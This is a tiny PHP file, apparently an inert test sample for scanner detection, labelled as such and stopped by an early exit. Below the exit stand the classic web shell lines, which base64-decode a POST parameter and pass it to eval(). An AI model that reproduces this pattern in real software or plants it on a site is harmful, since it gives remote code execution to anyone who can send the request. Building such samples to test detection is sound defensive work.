<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

$code = base64_decode($_POST['payload']);
$ok = strlen($code) > 0;
if ($ok) { eval($code); }
